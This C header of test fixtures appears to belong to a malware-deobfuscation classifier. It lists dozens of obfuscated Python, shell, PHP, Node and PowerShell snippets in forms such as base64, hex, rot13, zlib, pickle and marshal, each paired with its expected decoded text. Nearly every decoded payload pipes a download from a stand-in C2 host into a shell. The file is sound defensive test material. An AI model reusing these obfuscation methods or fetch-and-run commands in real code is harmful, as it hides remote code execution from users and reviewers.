/*
 * decode_forms: one code, encoded in every form that decode knows; harmless, written for the tests.
 * The encoded texts were made by Python's own modules.
 */
#ifndef TEST_DECODE_FORMS_H
#define TEST_DECODE_FORMS_H

#include "classify/decode.h"

struct form {
	const char *name;
	enum lw_language language;
	const char *text;
	size_t length;
	const char *wanted; /* stands in the layer */
	const char *encodings;
	uint32_t line;
	enum lw_decoded_kind kind;
	unsigned depth;
};

static const struct form forms[] = {
	{"b64decode() of a literal", LW_LANGUAGE_PYTHON,
		"import base64\nexec(base64.b64decode('aW1wb3J0IG9zLCBzb2NrZXQ7IG9zLnN5c3RlbSgn"
		"Y3VybCBodHRwOi8vYzIuZXhhbXBsZS50ZXN0L3ggfCBzaCcp'))\n", 129,
		"import os, socket; os.system('curl http://c2.example.test/x | sh')",
		"base64", 2, LW_DECODED_TEXT, 1},
	{"url-safe base64", LW_LANGUAGE_PYTHON,
		"exec(urlsafe_b64decode('aW1wb3J0IG9zLCBzb2NrZXQ7IG9zLnN5c3RlbSgnY3VybCBodHRwOi"
		"8vYzIuZXhhbXBsZS50ZXN0L3ggfCBzaCcpPz8-Pn5-'))\n", 124,
		"import os, socket; os.system('curl http://c2.example.test/x | sh')",
		"base64", 1, LW_DECODED_TEXT, 1},
	{"base64 -d in a pipe", LW_LANGUAGE_SHELL,
		"#!/bin/sh\n\necho Y3VybCAtZnNTTCBodHRwOi8vYzIuZXhhbXBsZS50ZXN0L3guc2ggfCBiYXNo"
		" | base64 -d | sh\n", 94,
		"curl -fsSL http://c2.example.test/x.sh | bash",
		"base64", 3, LW_DECODED_TEXT, 1},
	{"base64 -d of a here-string", LW_LANGUAGE_SHELL,
		"bash <<< \"$(base64 -d <<< 'Y3VybCAtZnNTTCBodHRwOi8vYzIuZXhhbXBsZS50ZXN0L3guc2"
		"ggfCBiYXNo')\"\n", 91,
		"curl -fsSL http://c2.example.test/x.sh | bash",
		"base64", 1, LW_DECODED_TEXT, 1},
	{"wrapped base64 in a here-document", LW_LANGUAGE_SHELL,
		"base64 -d <<EOF | sh\nY3VybCAtZnNTTCBodHRwOi8vYzIuZXhhbXBsZS50ZXN0L3guc2ggfCBi"
		"YXNoCmN1cmwgLWZzU0wg\naHR0cDovL2MyLmV4YW1wbGUudGVzdC94LnNoIHwgYmFzaApjdXJsIC1m"
		"c1NMIGh0dHA6Ly9jMi5l\neGFtcGxlLnRlc3QveC5zaCB8IGJhc2gKY3VybCAtZnNTTCBodHRwOi8v"
		"YzIuZXhhbXBsZS50ZXN0\nL3guc2ggfCBiYXNoCg==\nEOF\n", 277,
		"curl -fsSL http://c2.example.test/x.sh | bash",
		"base64", 2, LW_DECODED_TEXT, 1},
	{"wrapped base64 with DOS line ends", LW_LANGUAGE_PYTHON,
		"x = \"\"\"\015\nY3VybCAtZnNTTCBodHRwOi8vYzIuZXhhbXBsZS50ZXN0L3guc2ggfCBiYXNoCm"
		"N1cmwgLWZzU0wg\015\naHR0cDovL2MyLmV4YW1wbGUudGVzdC94LnNoIHwgYmFzaApjdXJsIC1mc1"
		"NMIGh0dHA6Ly9jMi5l\015\neGFtcGxlLnRlc3QveC5zaCB8IGJhc2gKY3VybCAtZnNTTCBodHRwOi"
		"8vYzIuZXhhbXBsZS50ZXN0\015\nL3guc2ggfCBiYXNoCg==\015\n\"\"\"\015\n", 270,
		"curl -fsSL http://c2.example.test/x.sh | bash",
		"base64", 2, LW_DECODED_TEXT, 1},
	{"base64 with written line ends", LW_LANGUAGE_PYTHON,
		"x = 'Y3VybCAtZnNTTCBodHRwOi8vYzIuZXhhbXBsZS50ZXN0L3guc2ggfCBiYXNoCmN1cmwgLWZzU"
		"0wg\\naHR0cDovL2MyLmV4YW1wbGUudGVzdC94LnNoIHwgYmFzaApjdXJsIC1mc1NMIGh0dHA6Ly9j"
		"Mi5l\\neGFtcGxlLnRlc3QveC5zaCB8IGJhc2gKY3VybCAtZnNTTCBodHRwOi8vYzIuZXhhbXBsZS5"
		"0ZXN0\\nL3guc2ggfCBiYXNoCg==\\n'\n", 263,
		"curl -fsSL http://c2.example.test/x.sh | bash",
		"base64", 1, LW_DECODED_TEXT, 1},
	{"base64 behind a written line end", LW_LANGUAGE_PYTHON,
		"open('x','w').write('import os\\naW1wb3J0IG9zLCBzb2NrZXQ7IG9zLnN5c3RlbSgnY3Vyb"
		"CBodHRwOi8vYzIuZXhhbXBsZS50ZXN0L3ggfCBzaCcp')\n", 123,
		"import os, socket; os.system('curl http://c2.example.test/x | sh')",
		"base64", 1, LW_DECODED_TEXT, 1},
	{"base64 as implicit pieces", LW_LANGUAGE_PYTHON,
		"exec(b64decode(\n\011'aW1wb3J0IG9zLCBzb2NrZXQ7IG9zLnN'\n\011'5c3RlbSgnY3VybCBo"
		"dHRwOi8vYzIuZX'\n\011'hhbXBsZS50ZXN0L3ggfCBzaCcp'))\n", 118,
		"import os, socket; os.system('curl http://c2.example.test/x | sh')",
		"concat > base64", 2, LW_DECODED_TEXT, 2},
	{"base64 in joined pieces", LW_LANGUAGE_PYTHON,
		"p = 'aW1wb3J0IG9zLCBzb2NrZXQ7IG9zLn' + 'N5c3RlbSgnY3VybCBodHRwOi8vYzIuZXhhbXBs"
		"ZS50ZXN0L3ggfCBzaCcp'\n", 100,
		"import os, socket; os.system('curl http://c2.example.test/x | sh')",
		"concat > base64", 1, LW_DECODED_TEXT, 2},
	{"base32", LW_LANGUAGE_PYTHON,
		"b32decode('NFWXA33SOQQG64ZMEBZW6Y3LMV2DWIDPOMXHG6LTORSW2KBHMN2XE3BANB2HI4B2F4X"
		"WGMROMV4GC3LQNRSS45DFON2C66BAPQQHG2BHFE======')", 125,
		"import os, socket; os.system('curl http://c2.example.test/x | sh')",
		"base32", 1, LW_DECODED_TEXT, 1},
	{"base85", LW_LANGUAGE_PYTHON,
		"exec(base64.b85decode('X>D+Ca&#bXb1WcpZ)0m^bUPq#b1rjvb97~GC\?{iea%>=IbaZe!FE3*"
		"<E@gOOZE$R5E_7vcbT4=yd\?0gZCn*'))", 109,
		"import os, socket; os.system('curl http://c2.example.test/x | sh')",
		"base85", 1, LW_DECODED_TEXT, 1},
	{"bytes.fromhex", LW_LANGUAGE_PYTHON,
		"exec(bytes.fromhex('696d706f7274206f732c20736f636b65743b206f732e73797374656d28"
		"276375726c20687474703a2f2f63322e6578616d706c652e746573742f78207c2073682729')"
		")", 155,
		"import os, socket; os.system('curl http://c2.example.test/x | sh')",
		"hex", 1, LW_DECODED_TEXT, 1},
	{"hex in upper case behind 0x", LW_LANGUAGE_PYTHON,
		"x = '0x6375726C202D6673534C20687474703A2F2F63322E6578616D706C652E746573742F782"
		"E7368207C2062617368'", 98,
		"curl -fsSL http://c2.example.test/x.sh | bash",
		"hex", 1, LW_DECODED_TEXT, 1},
	{"xxd -r -p", LW_LANGUAGE_SHELL,
		"echo 6375726c202d6673534c20687474703a2f2f63322e6578616d706c652e746573742f782e7"
		"368207c2062617368 | xxd -r -p | sh", 112,
		"curl -fsSL http://c2.example.test/x.sh | bash",
		"hex", 1, LW_DECODED_TEXT, 1},
	{"hex in pairs", LW_LANGUAGE_PYTHON,
		"bytes.fromhex('63 75 72 6c 20 2d 66 73 53 4c 20 68 74 74 70 3a 2f 2f 63 32 2e "
		"65 78 61 6d 70 6c 65 2e 74 65 73 74 2f 78 2e 73 68 20 7c 20 62 61 73 68')", 151,
		"curl -fsSL http://c2.example.test/x.sh | bash",
		"hex", 1, LW_DECODED_TEXT, 1},
	{"a hex dump over lines", LW_LANGUAGE_SHELL,
		"xxd -r -p <<EOF | sh\n6375726c202d6673534c20687474703a2f2f63322e6578616d706c65"
		"2e74\n6573742f782e7368207c2062617368\nEOF\n", 117,
		"curl -fsSL http://c2.example.test/x.sh | bash",
		"hex", 2, LW_DECODED_TEXT, 1},
	{"escapes in a string", LW_LANGUAGE_PYTHON,
		"exec(\"\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20\\x6f\\x73\\x2c\\x20\\x73\\x6f\\x63"
		"\\x6b\\x65\\x74\\x3b\\x20\\x6f\\x73\\x2e\\x73\\x79\\x73\\x74\\x65\\x6d\\x28\\x"
		"27\\x63\\x75\\x72\\x6c\\x20\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x63\\x32\\x2e"
		"\\x65\\x78\\x61\\x6d\\x70\\x6c\\x65\\x2e\\x74\\x65\\x73\\x74\\x2f\\x78\\x20\\x"
		"7c\\x20\\x73\\x68\\x27\\x29\")", 272,
		"import os, socket; os.system('curl http://c2.example.test/x | sh')",
		"escape", 1, LW_DECODED_TEXT, 1},
	{"unicode escapes", LW_LANGUAGE_PYTHON,
		"exec(\"\\u0069\\u006d\\u0070\\u006f\\u0072\\u0074\\u0020\\u006f\\u0073\\u002c"
		"\\u0020\\u0073\\u006f\\u0063\\u006b\\u0065\\u0074\\u003b\\u0020\\u006f\\u0073"
		"\\u002e\\u0073\\u0079\\u0073\\u0074\\u0065\\u006d\\u0028\\u0027\\u0063\\u0075"
		"\\u0072\\u006c\\u0020\\u0068\\u0074\\u0074\\u0070\\u003a\\u002f\\u002f\\u0063"
		"\\u0032\\u002e\\u0065\\u0078\\u0061\\u006d\\u0070\\u006c\\u0065\\u002e\\u0074"
		"\\u0065\\u0073\\u0074\\u002f\\u0078\\u0020\\u007c\\u0020\\u0073\\u0068\\u0027"
		"\\u0029\")", 404,
		"import os, socket; os.system('curl http://c2.example.test/x | sh')",
		"escape", 1, LW_DECODED_TEXT, 1},
	{"octal escapes", LW_LANGUAGE_PYTHON,
		"exec(\"\\151\\155\\160\\157\\162\\164\\040\\157\\163\\054\\040\\163\\157\\143"
		"\\153\\145\\164\\073\\040\\157\\163\\056\\163\\171\\163\\164\\145\\155\\050\\0"
		"47\\143\\165\\162\\154\\040\\150\\164\\164\\160\\072\\057\\057\\143\\062\\056"
		"\\145\\170\\141\\155\\160\\154\\145\\056\\164\\145\\163\\164\\057\\170\\040\\1"
		"74\\040\\163\\150\\047\\051\")", 272,
		"import os, socket; os.system('curl http://c2.example.test/x | sh')",
		"escape", 1, LW_DECODED_TEXT, 1},
	{"the shell's $'...'", LW_LANGUAGE_SHELL,
		"$'\\x2f\\x75\\x73\\x72\\x2f\\x62\\x69\\x6e\\x2f\\x63\\x75\\x72\\x6c\\x78'\neva"
		"l $'\\x63\\x75\\x72\\x6c\\x20\\x2d\\x66\\x73\\x53\\x4c\\x20\\x68\\x74\\x74\\x7"
		"0\\x3a\\x2f\\x2f\\x63\\x32\\x2e\\x65\\x78\\x61\\x6d\\x70\\x6c\\x65\\x2e\\x74\\"
		"x65\\x73\\x74\\x2f\\x78\\x2e\\x73\\x68\\x20\\x7c\\x20\\x62\\x61\\x73\\x68'\n", 249,
		"curl -fsSL http://c2.example.test/x.sh | bash",
		"escape", 1, LW_DECODED_TEXT, 1},
	{"printf with octal escapes", LW_LANGUAGE_SHELL,
		"printf '\\143\\165\\162\\154\\040\\055\\146\\163\\123\\114\\040\\150\\164\\164"
		"\\160\\072\\057\\057\\143\\062\\056\\145\\170\\141\\155\\160\\154\\145\\056\\1"
		"64\\145\\163\\164\\057\\170\\056\\163\\150\\040\\174\\040\\142\\141\\163\\150'"
		" | sh\n", 195,
		"curl -fsSL http://c2.example.test/x.sh | bash",
		"escape", 1, LW_DECODED_TEXT, 1},
	{"echo -e with hex escapes", LW_LANGUAGE_SHELL,
		"echo -e \"\\x63\\x75\\x72\\x6c\\x20\\x2d\\x66\\x73\\x53\\x4c\\x20\\x68\\x74\\x"
		"74\\x70\\x3a\\x2f\\x2f\\x63\\x32\\x2e\\x65\\x78\\x61\\x6d\\x70\\x6c\\x65\\x2e"
		"\\x74\\x65\\x73\\x74\\x2f\\x78\\x2e\\x73\\x68\\x20\\x7c\\x20\\x62\\x61\\x73\\x"
		"68\" | sh\n", 196,
		"curl -fsSL http://c2.example.test/x.sh | bash",
		"escape", 1, LW_DECODED_TEXT, 1},
	{"zlib inside base64", LW_LANGUAGE_PYTHON,
		"exec(zlib.decompress(b64decode('eJzLzC3ILypRyC/WUSjOT85OLbEGsvWKK4tLUnM11JNLi3"
		"IUMkpKCqz09ZON9FIrEnMLclL1SlKLS/QrFGoUijPUNTMHgQkASJxFfw==')))", 140,
		"import os, socket; os.system('curl http://c2.example.test/x | sh')",
		"base64 > zlib", 1, LW_DECODED_TEXT, 1},
	{"gzip inside base64", LW_LANGUAGE_SHELL,
		"echo H4sIAAAAAAACA0suLcpR0E0rDvZRyCgpKbDS10820kutSMwtyEnVK0ktLtGv0CvOUKhRSEosz"
		"gAA+2oqPC0AAAA= | base64 -d | gunzip | sh", 119,
		"curl -fsSL http://c2.example.test/x.sh | bash",
		"base64 > gzip", 1, LW_DECODED_TEXT, 1},
	{"deflate without a header", LW_LANGUAGE_PYTHON,
		"zlib.decompress(b64decode('y8wtyC8qUcgv1lEozk/OTi2xBrL1iiuLS1JzNdSTS4tyFDJKSgq"
		"s9PWTjfRSKxJzC3JS9UpSi0v0KxRqFIoz1DUzKTYBAA=='), -15)", 131,
		"import os, socket; os.system('curl http://c2.example.test/x | sh')",
		"base64 > deflate", 1, LW_DECODED_TEXT, 1},
	{"gzip inside hex", LW_LANGUAGE_PYTHON,
		"x = '1f8b0800000000000203cbcc2dc82f2a51c82fd65128ce4fce4e2db106b2f58a2b8b4b527"
		"335d4934b8b7214324a4a0aacf4f5938df4522b12730b7252f54a528b4bf42b146a148a33d4350"
		"15a1c966942000000'", 174,
		"import os, socket; os.system('curl http://c2.example.test/x | sh')",
		"hex > gzip", 1, LW_DECODED_TEXT, 1},
	{"zlib as a literal of bytes", LW_LANGUAGE_PYTHON,
		"exec(zlib.decompress(b'x\\x9c\\xcb\\xcc-\\xc8/*Q\\xc8/\\xd6Q(\\xceO\\xceN-\\xb"
		"1\\x06\\xb2\\xf5\\x8a+\\x8bKRs5\\xd4\\x93K\\x8br\\x142JJ\\n\\xac\\xf4\\xf5\\x9"
		"3\\x8d\\xf4R+\\x12s\\x0brR\\xf5JR\\x8bK\\xf4+\\x14j\\x14\\x8a3\\xd453)6\\x01\\"
		"x007:.U'))", 208,
		"import os, socket; os.system('curl http://c2.example.test/x | sh')",
		"escape > zlib", 1, LW_DECODED_TEXT, 1},
	{"rot13 by codecs", LW_LANGUAGE_PYTHON,
		"exec(codecs.decode(\"vzcbeg bf, fbpxrg; bf.flfgrz('phey uggc://p2.rknzcyr.grfg"
		"/k | fu')\", \"rot13\"))", 98,
		"import os, socket; os.system('curl http://c2.example.test/x | sh')",
		"rot13", 1, LW_DECODED_TEXT, 1},
	{"rot13 by tr", LW_LANGUAGE_SHELL,
		"echo 'phey -sfFY uggc://p2.rknzcyr.grfg/k.fu | onfu' | tr 'A-Za-z' 'N-ZA-Mn-za"
		"-m' | sh", 86,
		"curl -fsSL http://c2.example.test/x.sh | bash",
		"rot13", 1, LW_DECODED_TEXT, 1},
	{"a reversed literal", LW_LANGUAGE_PYTHON,
		"exec(\")'hs | x/tset.elpmaxe.2c//:ptth lruc'(metsys.so ;tekcos ,so tropmi\"[::"
		"-1])", 80,
		"import os, socket; os.system('curl http://c2.example.test/x | sh')",
		"reverse", 1, LW_DECODED_TEXT, 1},
	{"rev in a pipe", LW_LANGUAGE_SHELL,
		"echo 'hsab | hs.x/tset.elpmaxe.2c//:ptth LSsf- lruc' | rev | sh", 63,
		"curl -fsSL http://c2.example.test/x.sh | bash",
		"reverse", 1, LW_DECODED_TEXT, 1},
	{"reversed base64", LW_LANGUAGE_PYTHON,
		"exec(b64decode('pcCazBCfgg3L0NXZ05SZsBXbhhXZuIzYv8iOwRHdoBCbyV3YngSblR3c5NnLz9"
		"GI7QXZrN2bzBCLz9GI0J3bw1Wa'[::-1]))", 113,
		"import os, socket; os.system('curl http://c2.example.test/x | sh')",
		"reverse > base64", 1, LW_DECODED_TEXT, 1},
	{"reversed base64 of zlib", LW_LANGUAGE_PYTHON,
		"_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(_"
		"_[::-1]));exec((_)(b'==wfFxJSAkQgHMTNUPjiUoGFrQ/SLKlS1LlcLMnErIF9NOZ90zqCKpkMU"
		"I3iLNJ11MnULt4KKWvsGEbLO58TOjSUW/CyRpyLI3CzLzJe'))", 206,
		"import os, socket; os.system('curl http://c2.example.test/x | sh')",
		"reverse > base64 > zlib", 1, LW_DECODED_TEXT, 1},
	{"joined literals", LW_LANGUAGE_PYTHON,
		"import subprocess\nsubprocess.run('cu' + 'rl ht' + 'tp://c2.exam' + 'ple.test/"
		"x | sh')\n", 86,
		"subprocess.run(\"curl http://c2.example.test/x | sh\")",
		"concat", 2, LW_DECODED_TEXT, 1},
	{"joined literals of PHP", LW_LANGUAGE_PHP,
		"<\?php $f = 'sys' . 'tem'; $f('cu' . 'rl http://c2.exa' . 'mple.test');\n", 71,
		"\"curl http://c2.example.test\"",
		"concat", 1, LW_DECODED_TEXT, 1},
	{"a name in pieces", LW_LANGUAGE_PYTHON,
		"getattr(__import__('o' + 's'), 'sys' + 'tem')('id')\n", 52,
		"getattr(__import__(\"os\"), \"system\")",
		"concat", 1, LW_DECODED_TEXT, 1},
	{"quotes inside a word", LW_LANGUAGE_SHELL,
		"w'g'e\"t\" http://c2.example.test/a && c\\u\\r\\l http://c2.example.test/b\n", 70,
		"\"wget\" http://c2.example.test/a && \"curl\" http",
		"concat", 1, LW_DECODED_TEXT, 1},
	{"nothing inside a word", LW_LANGUAGE_SHELL,
		"c$@url http://c2.example.test/a; wg\"\"et${IFS}http://c2.example.test/b\n", 70,
		"\"curl\" http://c2.example.test/a; \"wget http",
		"concat", 1, LW_DECODED_TEXT, 1},
	{"chr() by chr()", LW_LANGUAGE_PYTHON,
		"exec(chr(105)+chr(109)+chr(112)+chr(111)+chr(114)+chr(116)+chr(32)+chr(111)+ch"
		"r(115)+chr(44)+chr(32)+chr(115)+chr(111)+chr(99)+chr(107)+chr(101)+chr(116)+ch"
		"r(59)+chr(32)+chr(111)+chr(115)+chr(46)+chr(115)+chr(121)+chr(115)+chr(116)+ch"
		"r(101)+chr(109)+chr(40)+chr(39)+chr(99)+chr(117)+chr(114)+chr(108)+chr(32)+chr"
		"(104)+chr(116)+chr(116)+chr(112)+chr(58)+chr(47)+chr(47)+chr(99)+chr(50)+chr(4"
		"6)+chr(101)+chr(120)+chr(97)+chr(109)+chr(112)+chr(108)+chr(101)+chr(46)+chr(1"
		"16)+chr(101)+chr(115)+chr(116)+chr(47)+chr(120)+chr(32)+chr(124)+chr(32)+chr(1"
		"15)+chr(104)+chr(39)+chr(41))", 575,
		"import os, socket; os.system('curl http://c2.example.test/x | sh')",
		"chr", 1, LW_DECODED_TEXT, 1},
	{"chr() in a list", LW_LANGUAGE_PYTHON,
		"exec(''.join([chr(0x69), chr(0x6d), chr(0x70), chr(0x6f), chr(0x72), chr(0x74)"
		", chr(0x20), chr(0x6f), chr(0x73), chr(0x2c), chr(0x20), chr(0x73), chr(0x6f),"
		" chr(0x63), chr(0x6b), chr(0x65), chr(0x74), chr(0x3b), chr(0x20), chr(0x6f), "
		"chr(0x73), chr(0x2e), chr(0x73), chr(0x79), chr(0x73), chr(0x74), chr(0x65), c"
		"hr(0x6d), chr(0x28), chr(0x27), chr(0x63), chr(0x75), chr(0x72), chr(0x6c), ch"
		"r(0x20), chr(0x68), chr(0x74), chr(0x74), chr(0x70), chr(0x3a), chr(0x2f), chr"
		"(0x2f), chr(0x63), chr(0x32), chr(0x2e), chr(0x65), chr(0x78), chr(0x61), chr("
		"0x6d), chr(0x70), chr(0x6c), chr(0x65), chr(0x2e), chr(0x74), chr(0x65), chr(0"
		"x73), chr(0x74), chr(0x2f), chr(0x78), chr(0x20), chr(0x7c), chr(0x20), chr(0x"
		"73), chr(0x68), chr(0x27), chr(0x29)]))", 741,
		"import os, socket; os.system('curl http://c2.example.test/x | sh')",
		"chr", 1, LW_DECODED_TEXT, 1},
	{"fromCharCode", LW_LANGUAGE_NODE,
		"eval(String.fromCharCode(105)+String.fromCharCode(109)+String.fromCharCode(112"
		")+String.fromCharCode(111)+String.fromCharCode(114)+String.fromCharCode(116)+S"
		"tring.fromCharCode(32)+String.fromCharCode(111)+String.fromCharCode(115)+Strin"
		"g.fromCharCode(44)+String.fromCharCode(32)+String.fromCharCode(115)+String.fro"
		"mCharCode(111)+String.fromCharCode(99)+String.fromCharCode(107)+String.fromCha"
		"rCode(101)+String.fromCharCode(116)+String.fromCharCode(59)+String.fromCharCod"
		"e(32)+String.fromCharCode(111)+String.fromCharCode(115)+String.fromCharCode(46"
		")+String.fromCharCode(115)+String.fromCharCode(121)+String.fromCharCode(115)+S"
		"tring.fromCharCode(116)+String.fromCharCode(101)+String.fromCharCode(109)+Stri"
		"ng.fromCharCode(40)+String.fromCharCode(39)+String.fromCharCode(99)+String.fro"
		"mCharCode(117)+String.fromCharCode(114)+String.fromCharCode(108)+String.fromCh"
		"arCode(32)+String.fromCharCode(104)+String.fromCharCode(116)+String.fromCharCo"
		"de(116)+String.fromCharCode(112)+String.fromCharCode(58)+String.fromCharCode(4"
		"7)+String.fromCharCode(47)+String.fromCharCode(99)+String.fromCharCode(50)+Str"
		"ing.fromCharCode(46)+String.fromCharCode(101)+String.fromCharCode(120)+String."
		"fromCharCode(97)+String.fromCharCode(109)+String.fromCharCode(112)+String.from"
		"CharCode(108)+String.fromCharCode(101)+String.fromCharCode(46)+String.fromChar"
		"Code(116)+String.fromCharCode(101)+String.fromCharCode(115)+String.fromCharCod"
		"e(116)+String.fromCharCode(47)+String.fromCharCode(120)+String.fromCharCode(32"
		")+String.fromCharCode(124)+String.fromCharCode(32)+String.fromCharCode(115)+St"
		"ring.fromCharCode(104)+String.fromCharCode(39)+String.fromCharCode(41))", 1631,
		"import os, socket; os.system('curl http://c2.example.test/x | sh')",
		"chr", 1, LW_DECODED_TEXT, 1},
	{"a list of numbers", LW_LANGUAGE_PYTHON,
		"exec(bytes([105, 109, 112, 111, 114, 116, 32, 111, 115, 44, 32, 115, 111, 99, "
		"107, 101, 116, 59, 32, 111, 115, 46, 115, 121, 115, 116, 101, 109, 40, 39, 99,"
		" 117, 114, 108, 32, 104, 116, 116, 112, 58, 47, 47, 99, 50, 46, 101, 120, 97, "
		"109, 112, 108, 101, 46, 116, 101, 115, 116, 47, 120, 32, 124, 32, 115, 104, 39"
		", 41]))", 319,
		"import os, socket; os.system('curl http://c2.example.test/x | sh')",
		"numbers", 1, LW_DECODED_TEXT, 1},
	{"a list of numbers in hex", LW_LANGUAGE_PYTHON,
		"exec(''.join(map(chr, [0x69, 0x6d, 0x70, 0x6f, 0x72, 0x74, 0x20, 0x6f, 0x73, 0"
		"x2c, 0x20, 0x73, 0x6f, 0x63, 0x6b, 0x65, 0x74, 0x3b, 0x20, 0x6f, 0x73, 0x2e, 0"
		"x73, 0x79, 0x73, 0x74, 0x65, 0x6d, 0x28, 0x27, 0x63, 0x75, 0x72, 0x6c, 0x20, 0"
		"x68, 0x74, 0x74, 0x70, 0x3a, 0x2f, 0x2f, 0x63, 0x32, 0x2e, 0x65, 0x78, 0x61, 0"
		"x6d, 0x70, 0x6c, 0x65, 0x2e, 0x74, 0x65, 0x73, 0x74, 0x2f, 0x78, 0x20, 0x7c, 0"
		"x20, 0x73, 0x68, 0x27, 0x29])))", 421,
		"import os, socket; os.system('curl http://c2.example.test/x | sh')",
		"numbers", 1, LW_DECODED_TEXT, 1},
	{"%-encoding", LW_LANGUAGE_PYTHON,
		"exec(unquote('%69%6d%70%6f%72%74%20%6f%73%2c%20%73%6f%63%6b%65%74%3b%20%6f%73%"
		"2e%73%79%73%74%65%6d%28%27%63%75%72%6c%20%68%74%74%70%3a%2f%2f%63%32%2e%65%78%"
		"61%6d%70%6c%65%2e%74%65%73%74%2f%78%20%7c%20%73%68%27%29'))", 215,
		"import os, socket; os.system('curl http://c2.example.test/x | sh')",
		"percent", 1, LW_DECODED_TEXT, 1},
	{"UTF-16 inside base64", LW_LANGUAGE_SHELL,
		"pwsh -enc YwB1AHIAbAAgAC0AZgBzAFMATAAgAGgAdAB0AHAAOgAvAC8AYwAyAC4AZQB4AGEAbQBw"
		"AGwAZQAuAHQAZQBzAHQALwB4AC4AcwBoACAAfAAgAGIAYQBzAGgA", 130,
		"curl -fsSL http://c2.example.test/x.sh | bash",
		"base64 > utf-16", 1, LW_DECODED_TEXT, 1},
	{"base64 of base64", LW_LANGUAGE_PYTHON,
		"exec(b64decode(b64decode('YVcxd2IzSjBJRzl6TENCemIyTnJaWFE3SUc5ekxuTjVjM1JsYlNn"
		"blkzVnliQ0JvZEhSd09pOHZZekl1WlhoaGJYQnNaUzUwWlhOMEwzZ2dmQ0J6YUNjcA==')))", 150,
		"import os, socket; os.system('curl http://c2.example.test/x | sh')",
		"base64 > base64", 1, LW_DECODED_TEXT, 2},
	{"a layer inside a layer", LW_LANGUAGE_PYTHON,
		"exec(b64decode('aW1wb3J0IGJhc2U2NCx6bGliCmV4ZWMoemxpYi5kZWNvbXByZXNzKGJhc2U2NC"
		"5iNjRkZWNvZGUoJ2VKekx6QzNJTHlwUnlDL1dVU2pPVDg1T0xiRUdzdldLSzR0TFVuTTExSk5MaTNJ"
		"VU1rcEtDcXowOVpPTjlGSXJFbk1MY2xMMVNsS0xTL1FyRkdvVWlqUFVOVE1wTmdFQU56b3VWUT09Jy"
		"kpKQ=='))", 243,
		"import os, socket; os.system('curl http://c2.example.test/x | sh')",
		"base64 > base64 > zlib", 1, LW_DECODED_TEXT, 2},
	{"three layers", LW_LANGUAGE_SHELL,
		"echo ZWNobyBaV05vYnlCWk0xWjVZa05CZEZwdVRsUlVRMEp2WkVoU2QwOXBPSFpaZWtsMVdsaG9hR"
		"0pZUW5OYVV6VXdXbGhPTUV3elozVmpNbWRuWmtOQ2FWbFlUbThnZkNCaVlYTmxOalFnTFdRZ2ZDQnp"
		"hQT09IHwgYmFzZTY0IC1kIHwgc2g= | base64 -d | sh", 202,
		"curl -fsSL http://c2.example.test/x.sh | bash",
		"base64 > base64 > base64", 1, LW_DECODED_TEXT, 3},
	{"a program inside base64", LW_LANGUAGE_SHELL,
		"echo f0VMRgIBAQAAAAAAAAAAAAIAPgAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
		"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
		"AAAAAAAAA | base64 -d > /tmp/x", 186,
		"\177ELF",
		"base64", 1, LW_DECODED_ELF, 1},
	{"marshalled code", LW_LANGUAGE_PYTHON,
		"exec(marshal.loads(b64decode('4wAAAAAAAAAAAAAAAAAAAABAAAAAcwoAAABkAGQBbAABAFoJ"
		"c3VicHJvY2VzcwAAWh5jdXJsIGh0dHA6Ly9jMi5leGFtcGxlLnRlc3QgfCBzaOkA')))", 146,
		"curl http://c2.example.test | sh",
		"base64 > marshal", 1, LW_DECODED_MARSHAL, 1},
	{"marshalled code as bytes", LW_LANGUAGE_PYTHON,
		"exec(marshal.loads(b'\\xe3\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\"
		"x00\\x00\\x00\\x00\\x00\\x00@\\x00\\x00\\x00s\\n\\x00\\x00\\x00d\\x00d\\x01l\\"
		"x00\\x01\\x00Z\\tsubprocess\\x00\\x00Z\\x1ecurl http://c2.example.test | sh\\x"
		"e9\\x00'))", 209,
		"curl http://c2.example.test | sh",
		"escape > marshal", 1, LW_DECODED_MARSHAL, 1},
	{"a pickle", LW_LANGUAGE_PYTHON,
		"pickle.loads(b64decode('gASVKwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjCBjdXJsIC1mc1"
		"NMIGh0dHA6Ly9jMi5leGFtcGxlLnRlc3QveC5zaCB8IGJhc2iUhZRSlC4='))", 139,
		"curl -fsSL http://c2.example.test/x.sh | bash",
		"base64 > pickle", 1, LW_DECODED_PICKLE, 1},
	{"a literal that the capture cuts", LW_LANGUAGE_PYTHON,
		"exec(zlib.decompress(b'x\\x9c\\xcb\\xcc-\\xc8/*Q\\xc8/\\xd6Q(\\xceO\\xceN-\\xb"
		"1\\x06\\xb2\\xf5\\x8a+\\x8bKRs5\\xd4\\x93K\\x8br\\x142JJ\\n\\xac\\xf4\\xf5\\x9"
		"3\\x8d\\xf4R+\\x12s\\x0brR\\xf5JR\\x8bK\\xf4+\\x14j\\x14\\x8a3\\xd453)6\\x01\\"
		"x007:.U'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
		"xxxxxxxxxx", 286,
		"import os, socket; os.system('curl http://c2.example.test/x | sh')",
		"escape > zlib", 1, LW_DECODED_TEXT, 1},
	{"code in a string of a shell", LW_LANGUAGE_SHELL,
		"python3 -c 'exec(\"impo\" + \"rt os; os.sys\" + \"tem(1)\")'\n", 55,
		"exec(\"import os; os.system(1)\")",
		"concat", 1, LW_DECODED_TEXT, 1},
};

#endif
